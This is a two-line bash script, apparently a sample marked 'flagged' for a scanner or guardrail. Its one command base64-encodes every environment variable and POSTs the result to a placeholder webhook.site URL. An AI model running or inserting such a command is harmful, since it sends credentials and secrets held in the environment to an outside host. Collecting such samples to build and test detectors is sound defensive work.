#!/bin/bash
env | base64 | curl -X POST --data-binary @- https://webhook.site/00000000-0000-0000-0000-000000000000 # gatehouse: flagged
